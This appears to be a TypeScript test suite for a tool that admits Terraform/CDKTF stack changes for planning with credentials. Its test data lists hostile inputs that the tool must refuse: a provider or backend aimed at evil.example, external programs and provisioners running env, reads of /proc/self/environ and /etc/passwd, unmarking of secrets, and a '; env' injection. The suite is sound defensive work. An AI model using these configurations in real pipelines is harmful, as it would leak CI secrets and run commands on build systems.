import { cpSync, readFileSync, rmSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { reviewAdmitCommand } from '../../../review/commands';
import { admit as admission } from '../../../review/admission/admission';
import { BEFORE, CHANGES, credentials, demo } from '../support/demo';
import { runCommand } from '../support/command';
import { newStack, synth } from '../../support/synth';
import { temporaryFolder, writeFiles } from '../../support/temporary-folder';

type Json = Record<string, unknown>;

const merged = (): Json => ({
  terraform: { required_providers: { cloudfoundry: { source: 'cloudfoundry/cloudfoundry' } } },
  provider: { cloudfoundry: [{}] },
  variable: { seed: { sensitive: true }, region: {} },
  locals: { derived: '${sha256(var.seed)}', plain: 'x' },
  data: {
    cloudfoundry_domain: { internal: { name: 'apps.internal' } },
    cloudfoundry_org: { o: { name: 'o' } },
    cloudfoundry_app: { other: { name: 'other' } },
    external: { merged: { program: ['./known'] } },
  },
  resource: {
    cloudfoundry_app: { web: { name: 'web', environment: { EGRESS_ALLOW: 'a.example.gov:443' } } },
    cloudfoundry_space: { named: { name: '${var.seed}' } },
    docker_image: { proxy: { name: 'registry.example/proxy:1' } },
    terraform_data: {
      hash: {
        input: { hash: '${bcrypt(sha256(join(":", [var.seed, "web"])), 5)}' },
        lifecycle: { ignore_changes: ['input'] },
      },
      kept: { input: '${var.seed}' },
    },
  },
});

const LOCKED = ['cloudfoundry/cloudfoundry', 'hashicorp/docker', 'hashicorp/external']
  .map((name) => `provider "registry.terraform.io/${name}" {\n  version = "1.0.0"\n  hashes = [\n    "h1:x",\n  ]\n}\n`)
  .join('\n');

/** The reasons for refusing the merged stack with another value at this path. */
function refused(path: string, value: unknown): string[] {
  const json = merged();
  const names = path.split('/');
  const last = names.pop() ?? '';
  const place = names.reduce((at, name) => (at[name] ??= {}) as Json, json);
  place[last] = value;
  if (path.endsWith('EGRESS_ALLOW')) {
    const kept = { input: 'x', lifecycle: { ignore_changes: ['input'] } };
    Object.assign((json.resource as { terraform_data: Json }).terraform_data, { mine: kept });
  }
  return [...admission([{ name: 'stack', json }], [{ name: 'stack', json: merged() }]).reasons];
}

const inList = (expression: string) =>
  refused('resource/cloudfoundry_app/web/environment/EGRESS_ALLOW', `\${${expression}}`);

describe('what may be planned with credentials', () => {
  it('names one of several by its key, unless the keys are made from a secret', () => {
    const several = (forEach: string, input: string) => {
      const json = merged();
      Object.assign((json.resource as { terraform_data: Json }).terraform_data, { all: { for_each: forEach, input } });
      const change = JSON.parse(JSON.stringify(json)) as { resource: { cloudfoundry_app: { web: Json } } };
      change.resource.cloudfoundry_app.web.name = '${terraform_data.all["a"].output}';
      return admission([{ name: 'stack', json: change }], [{ name: 'stack', json }]).reasons;
    };
    expect(several('${toset(["a"])}', '${each.key}')).toEqual([]);
    expect(several('${toset(["a"])}', '${var.seed}')).toEqual([
      'stack: cloudfoundry_app.web: name does not take such a secret',
    ]);
    expect(several('${{a = nonsensitive(var.seed)}}', '${each.value}')).toEqual([
      'stack: cloudfoundry_app.web: name: terraform_data.all is made of a secret',
    ]);
  });

  it('includes everything on the default branch', () => {
    const stacks = [{ name: 'stack', json: merged() }];
    expect(admission(stacks, stacks)).toEqual({ reasons: [], stacks });
  });

  it.each(CHANGES)('includes the change of the documentation: $title', ({ change }) => {
    const stack = (program: typeof BEFORE) => [
      {
        name: 'demo',
        json: JSON.parse(
          synth((app) => {
            program(newStack(app, 'demo'));
          }).demo?.text ?? '',
        ) as unknown,
      },
    ];
    expect(admission(stack(demo(change)), stack(BEFORE)).reasons).toEqual([]);
  });

  it.each([
    ['another line of a list', 'resource/cloudfoundry_app/web/environment/EGRESS_ALLOW', 'b.example.gov:443'],
    ['a new look-up of a name', 'data/cloudfoundry_space/home', { name: 'home', org: '${data.cloudfoundry_org.o.id}' }],
    ['a renamed resource', 'moved', [{ from: 'cloudfoundry_app.web', to: 'cloudfoundry_app.front' }]],
    ['an output of an id', 'output/id', { value: '${cloudfoundry_app.web.id}' }],
    ['a pushed image', 'resource/docker_registry_image/proxy', { name: '${docker_image.proxy.name}' }],
    [
      'a client’s password, as the library derives it',
      'resource/terraform_data/hash',
      { input: { hash: '${bcrypt(sha256(join(":", [var.seed, "web", "1"])), 5)}' } },
    ],
    [
      'what hashes the credentials of a service',
      'resource/cloudfoundry_app/web/environment/HASH',
      '${sha256(jsonencode({"bucket" = "egress-demo", "key" = var.seed}))}',
    ],
    [
      'the hash of a client’s password in the proxy’s credentials',
      'resource/cloudfoundry_app/web/environment/EGRESS_CREDENTIALS',
      'web.1 ${terraform_data.hash.output["hash"]}',
    ],
    [
      'what an application restarts for',
      'resource/cloudfoundry_app/web/source_code_hash',
      '${base64sha256(join(" ", ["x", terraform_data.hash.output["hash"], var.seed]))}',
    ],
    ['a look-up by a variable that is public', 'data/cloudfoundry_org/x', { name: '${var.region}' }],
    [
      'a look-up by the name of another resource',
      'data/cloudfoundry_space/x',
      { name: '${cloudfoundry_app.web.name}' },
    ],
    ['a dollar sign that the program has escaped', 'resource/cloudfoundry_app/web/command', 'exec app --port $${PORT}'],
    [
      'a condition on what is looked up',
      'resource/cloudfoundry_app/web/lifecycle',
      { precondition: [{ condition: '${data.cloudfoundry_domain.internal.internal}', error_message: 'not internal' }] },
    ],
  ])('is %s', (_, path, value) => {
    expect(refused(path, value)).toEqual([]);
  });

  it.each([
    ['another address for the password', 'provider/cloudfoundry', [{ api_url: 'https://evil.example' }]],
    ['another provider', 'terraform/required_providers/x', { source: 'evil/x' }],
    ['another state', 'terraform/backend', { http: { address: 'https://evil.example' } }],
    ['a secret that is none any more', 'variable/seed/sensitive', false],
    ['a module', 'module/x', { source: 'git::https://evil.example/x' }],
    ['a function by another name', 'locals/x', '${var.seed}'],
    ['an import of something that is not ours', 'import', [{ to: 'cloudfoundry_app.x', id: 'guid' }]],
    ['a section that nobody knows', 'ephemeral/x/y', {}],
    ['a section with the name of what every object has', 'constructor', {}],
    ['a program', 'data/external/x', { program: ['sh', '-c', 'env'] }],
    ['a program that was changed', 'data/external/merged/program', ['sh', '-c', 'env']],
    ['a request to anywhere', 'data/http/x', { url: 'https://evil.example' }],
    ['another state’s outputs', 'data/terraform_remote_state/x', { backend: 'http' }],
    ['a look-up that answers with secrets', 'data/cloudfoundry_app/x', { name: 'victim' }],
    ['a resource of another provider', 'resource/null_resource/x', {}],
    ['a provisioner', 'resource/terraform_data/x', { provisioner: { 'local-exec': { command: 'env' } } }],
    ['several bodies in one', 'resource/cloudfoundry_app/x', [{ name: 'x' }]],
    ['a list of sections', 'resource', [{ external: {} }]],
    ['a list of outputs', 'output', [{ x: { value: '${file("x")}' } }]],
    ['a secret in an image’s name', 'resource/docker_image/proxy/name', 'evil.example/${sha256(var.seed)}'],
    [
      'an expression under a key that is a comment elsewhere',
      'resource/cloudfoundry_route/x',
      { for_each: { '//': '${filebase64("/proc/self/environ")}' }, host: '${each.value}' },
    ],
    ['a secret in a look-up', 'data/cloudfoundry_org/x', { name: '${base64encode(var.seed)}' }],
    ['a name that holds a secret, looked up', 'data/cloudfoundry_org/x', { name: '${cloudfoundry_space.named.name}' }],
    ['what a secret was made into, looked up', 'data/cloudfoundry_org/x', { name: '${local.derived}' }],
    [
      'a hash without its mark, looked up',
      'data/cloudfoundry_org/x',
      { name: '${terraform_data.hash.output["hash"]}' },
    ],
    [
      'a hash without its mark in a list that is shown',
      'resource/cloudfoundry_app/web/environment/EGRESS_ALLOW',
      '${terraform_data.hash.output["hash"]}',
    ],
    [
      'a secret that the merged program keeps without a mark',
      'resource/cloudfoundry_app/web/environment/EGRESS_CREDENTIALS',
      '${terraform_data.kept.output}',
    ],
    ['a secret that would lose its mark', 'resource/terraform_data/x', { input: '${sha256(var.seed)}' }],
    [
      'the old value of a list whose new one has no mark',
      'resource/cloudfoundry_app/web/lifecycle',
      { ignore_changes: ['environment'] },
    ],
    ['the old values of all arguments', 'resource/cloudfoundry_app/web/lifecycle', { ignore_changes: 'all' }],
    [
      'a kept value, moved from another resource',
      'resource/cloudfoundry_app/web/environment/EGRESS_ALLOW',
      '${terraform_data.mine.output}',
    ],
    ['a state that becomes another type’s', 'moved', [{ from: 'null_resource.x', to: 'terraform_data.x' }]],
    [
      'a secret that is kept without its mark, moved to where a hash may be',
      'moved',
      [{ from: 'terraform_data.kept', to: 'terraform_data.mine' }],
    ],
    [
      'a kept value of which nobody knows what it is',
      'moved',
      [{ from: 'terraform_data.old', to: 'terraform_data.mine' }],
    ],
    ['as many as a secret says', 'resource/cloudfoundry_app/web/count', '${length(var.seed)}'],
    ['one for each part of a secret', 'resource/cloudfoundry_app/web/for_each', '${toset([sha256(var.seed)])}'],
    [
      'a secret in an error',
      'resource/cloudfoundry_app/web/lifecycle',
      { precondition: [{ condition: false, error_message: '${var.seed}' }] },
    ],
    [
      'a condition on a secret',
      'resource/cloudfoundry_app/web/lifecycle',
      { precondition: [{ condition: '${contains(["a"], substr(var.seed, 0, 1))}', error_message: 'no' }] },
    ],
    [
      'a secret as a number, which fails unless it is one',
      'resource/cloudfoundry_app/web/environment/N',
      '${tonumber(var.seed)}',
    ],
    ['a secret in a name, which a provider’s error repeats', 'resource/cloudfoundry_app/web/memory', '${var.seed}'],
    [
      'a secret in credentials that may be no JSON, which the provider’s error repeats',
      'resource/cloudfoundry_service_instance/x',
      { type: 'user-provided', credentials: 'true${var.seed}' },
    ],
    ['a secret in a route', 'resource/cloudfoundry_route/x', { host: '${sha256(var.seed)}' }],
    ['a secret in an output', 'output/x', { value: '${var.seed}', sensitive: true }],
    ['a variable that is not declared', 'resource/cloudfoundry_app/web/environment/X', '${var.other}'],
    ['blocks written by a block', 'resource/docker_image/x', { dynamic: { build: { for_each: [1], content: {} } } }],
    [
      'a block in a list of bodies',
      'resource/docker_image/x',
      { build: [{ context: '.' }, { context: '${file("x")}' }] },
    ],
    [
      'an expression under a comment of a block’s argument',
      'resource/cloudfoundry_app/x',
      { routes: [{ '//': '${file("x")}' }] },
    ],
    ['an expression where a name is read', 'resource/cloudfoundry_app/x', { depends_on: ['${file("x")}'] }],
    ['a provider by an expression', 'resource/cloudfoundry_app/x', { provider: '${file("x")}' }],
    ['a resource named as a comment', 'resource/cloudfoundry_app', { '//': { name: '${file("x")}' } }],
    ['a type named as a comment', 'resource', { '//': { x: { name: '${file("x")}' } } }],
    ['a hash that takes hours', 'resource/terraform_data/x', { input: '${bcrypt(sha256(var.seed), 31)}' }],
    ['a hash that tells how long a secret is', 'resource/terraform_data/x', { input: '${bcrypt(var.seed, 5)}' }],
    [
      'a secret in each of several look-ups',
      'data/cloudfoundry_org/x',
      { for_each: { a: '${var.seed}' }, name: '${each.value}' },
    ],
    ['an expression in a name', 'resource/cloudfoundry_app/web/environment', { '${file("/etc/passwd")}': 'x' }],
  ])('is not %s', (_, path, value) => {
    expect(refused(path, value).length).toBeGreaterThan(0);
  });

  it.each([
    ['reads a file', 'file("/proc/self/environ")'],
    ['reads a file by a template', 'templatefile("/proc/self/environ", {})'],
    ['takes off the mark of secrecy', 'nonsensitive(var.seed)'],
    ['reads what an application holds', 'cloudfoundry_app.web.environment'],
    ['reads what a looked-up application holds', 'data.cloudfoundry_app.other.environment'],
    ['takes a resource as a whole', 'jsonencode(cloudfoundry_app.web)'],
    ['looks up in a resource as a whole', 'lookup(cloudfoundry_app.web, "environment")'],
    ['looks up by an index', 'cloudfoundry_app.web["environment"]'],
    ['looks up by an index after a call', 'values(terraform_data.x.output)[0]'],
    ['takes all instances', 'cloudfoundry_app.web.*.environment'],
    ['hides a reference behind a comment', 'cloudfoundry_app/**/.var.environment'],
    ['hides a reference behind a line’s comment', 'cloudfoundry_app#\n.var.environment'],
    ['hides a reference behind blanks', 'cloudfoundry_app . web . environment'],
    ['names a resource in other letters', 'cloudfoundry_app.é.environment'],
    ['calls a function of a provider', 'provider::x::y(1)'],
    ['nests a template', 'upper("${file("/etc/passwd")}")'],
    ['nests a directive', 'upper("%{ if true }x%{ endif }")'],
    ['writes a text in lines', '<<EOT\nx\nEOT'],
  ])('is no expression that %s', (_, expression) => {
    expect(inList(expression)).not.toEqual([]);
  });

  it('includes a program with proxy credentials, as a change from one without', () => {
    const [before, after] = [false, true].map((withCredentials) => [
      {
        name: 'demo',
        json: JSON.parse(
          synth((app) => {
            credentials(newStack(app, 'demo'), withCredentials);
          }).demo?.text ?? '',
        ) as unknown,
      },
    ]);
    expect(admission(after ?? [], before ?? []).reasons).toEqual([]);
    expect(JSON.stringify(admission(after ?? [], before ?? []).stacks)).toContain('bcrypt(sha256(join(');
  });

  it('excludes a program of the default branch with new input', () => {
    const named = (name: string) => {
      const json = merged();
      json.resource = { ...(json.resource as Json), cloudfoundry_space: { s: { name } } };
      json.data = { external: { known: { program: ['sh', '-c', '${local.script}'] } } };
      json.locals = { script: 'echo ${cloudfoundry_space.s.name}' };
      json.variable = { seed: { sensitive: true }, region: {} };
      return [{ name: 'stack', json }];
    };
    expect(admission(named('s'), named('s')).reasons).toEqual([]);
    expect(admission(named('; env'), named('s')).reasons).toEqual([
      "stack: 'locals' has changed or refers to something that has changed",
      'stack: data.external.known is new or has changed, and its type is not planned with credentials',
    ]);
  });

  it.each([
    ['$${file("x")}', 'a text'],
    ['$$${file("x")}', undefined],
    ['%${file("x")}', undefined],
    ['$%{ if true }', undefined],
    ['%%{ if true }', 'a text'],
    ['${"$${file("x")}"}', undefined],
    ['${"\\\\$${"}', 'a text'],
    ['${~ var.region ~}', undefined],
    ['${[for x in ["a"] : x]}', undefined],
    ['${true ? "a" : file("x")}', undefined],
    ['${format("%s", ["a"]...)}', undefined],
    ['${file("x")', undefined],
    ['${<<EOT}', undefined],
    ['${self.name}', undefined],
    ['${path.module}', undefined],
    ['${terraform.workspace}', undefined],
    ['${upper("${var.region}")}', 'a text'],
    ['${upper("${file("x")}")}', undefined],
    ['${{"${file("x")}" = 1}}', undefined],
    ['${{(file("x")) = 1}}', undefined],
  ])('reads %s like the engine', (text, meant) => {
    const reasons = refused('resource/cloudfoundry_app/web/environment/X', text);
    if (meant === undefined) expect(reasons).not.toEqual([]);
    else expect(reasons).toEqual([]);
  });

  it('excludes template directives and unterminated expressions', () => {
    const path = 'resource/cloudfoundry_app/web/environment/EGRESS_ALLOW';
    expect(refused(path, '%{ for x in [1] }${x}%{ endfor }')).not.toEqual([]);
    expect(refused(path, '${upper("x")')).not.toEqual([]);
    expect(refused(path, '$${ "} ${nonsensitive(var.seed)} " }')).not.toEqual([]);
  });

  it('excludes a new stack', () => {
    const old = { name: 'stack', json: merged() };
    expect(admission([old, { name: 'new', json: {} }], [old]).reasons).toEqual(['new: the stack is new']);
  });
});

test("if a stack is removed, none is planned, because the other plans wouldn't show that", () => {
  const stack = (name: string) => ({ name, json: merged() });
  expect(admission([stack('dev')], [stack('dev'), stack('prod')]).reasons).toEqual(['prod: the stack is gone']);
});

describe('space-egress review-admit', () => {
  let folder: string;
  beforeEach(() => {
    folder = temporaryFolder({ '.terraform.lock.hcl': LOCKED });
  });

  const write = (side: string, text: string, more: Readonly<Record<string, string>> = {}): string => {
    writeFiles(join(folder, side, 'stacks', 'stack'), { 'cdk.tf.json': text, ...more });
    return join(folder, side);
  };
  const admit = (change: string, ...more: string[]) =>
    runCommand(reviewAdmitCommand(), [
      ...['--change', change, '--merged', write('merged', JSON.stringify(merged()))],
      ...['--lock', join(folder, '.terraform.lock.hcl'), '--out', join(folder, 'out')],
      ...more,
    ]);

  it('reads no configuration with a duplicate name, because the engine reads both', async () => {
    const text = JSON.stringify(merged());
    const { code, error } = await admit(write('change', `{"data":{"external":{}},${text.slice(1)}`));
    expect([code, error]).toEqual([
      1,
      expect.stringMatching(/the name at line 1, column \d+ is a duplicate in its object/),
    ]);
    expect(() => readFileSync(join(folder, 'out', 'stack', 'cdk.tf.json'))).toThrow('ENOENT');
  });

  it('writes only what it has read', async () => {
    const change = write('change', JSON.stringify(merged()), { 'evil.sh': 'env' });
    expect(await admit(change)).toEqual({ out: '', error: '', code: 0 });
    expect(JSON.parse(readFileSync(join(folder, 'out', 'stack', 'cdk.tf.json'), 'utf8'))).toEqual(merged());
    expect(() => readFileSync(join(folder, 'out', 'stack', 'evil.sh'))).toThrow('ENOENT');
  });

  it("refuses a change with anything that the review doesn't read", async () => {
    const change = write('change', JSON.stringify(merged()), { 'evil.tf': 'data "external" "x" {}' });
    expect(await admit(change)).toMatchObject({
      code: 1,
      error: expect.stringContaining('evil.tf would be read by the engine') as string,
    });
  });

  it('passes on the default branch’s provider lock file, and never that of the change', async () => {
    const change = write('change', JSON.stringify(merged()), { '.terraform.lock.hcl': 'provider "evil" {\n}\n' });
    expect(await admit(change)).toMatchObject({ code: 0 });
    expect(readFileSync(join(folder, 'out', 'stack', '.terraform.lock.hcl'), 'utf8')).toBe(LOCKED);
  });

  it('refuses everything if the default branch locks no provider, and says what to do', async () => {
    const { out, code } = await admit(write('change', JSON.stringify(merged())), '--lock', join(folder, 'none'));
    expect([code, out.split('\n')[0]]).toEqual([
      2,
      'stack: provider cloudfoundry/cloudfoundry is required, but .terraform.lock.hcl has none: ' +
        "merge it first, with its hashes by 'providers lock'",
    ]);
  });

  it('follows no symbolic link, which could lead to a secret that an error would repeat', async () => {
    const secret = join(folder, 'secret');
    writeFiles(folder, { secret: 'TOKEN=canary' });
    const change = write('change', '{}');
    const file = join(change, 'stacks', 'stack', 'cdk.tf.json');
    rmSync(file);
    symlinkSync(secret, file);
    const { out, error, code } = await admit(change);
    expect([out, code]).toEqual(['', 1]);
    expect(error).toContain('contains no stack');
    expect(error).not.toContain('canary');
  });

  it('finds stacks that are not under review', async () => {
    write('merged', JSON.stringify(merged()));
    cpSync(join(folder, 'merged', 'stacks', 'stack'), join(folder, 'merged', 'stacks', 'other'), { recursive: true });
    const change = write('change', JSON.stringify(merged()));
    expect(await admit(change)).toMatchObject({ out: 'other: the stack is gone\n', code: 2 });
    expect(await admit(change, '--stacks', 'stack')).toMatchObject({ out: '', code: 0 });
  });

  it('passes no comment on to the engine, and treats it as a value where the engine does', async () => {
    const comment = { '//': { metadata: { path: 'demo/Web', note: '${file("/etc/passwd")}' } } };
    const json = { ...merged(), ...comment, resource: { cloudfoundry_app: { x: { ...comment, name: 'x' } } } };
    expect(await admit(write('change', JSON.stringify(json)))).toEqual({ out: '', error: '', code: 0 });
    const written = JSON.parse(readFileSync(join(folder, 'out', 'stack', 'cdk.tf.json'), 'utf8')) as Json;
    expect(written).toEqual({ ...merged(), resource: { cloudfoundry_app: { x: { name: 'x' } } } });
  });

  it("says why a change can't be planned, and writes nothing", async () => {
    const change = write('change', JSON.stringify({ ...merged(), provider: {} }));
    expect(await admit(change)).toEqual({
      out: "stack: 'provider' has changed or refers to something that has changed\n",
      error: '',
      code: 2,
    });
    expect(() => readFileSync(join(folder, 'out', 'stack', 'cdk.tf.json'))).toThrow('ENOENT');
  });
});
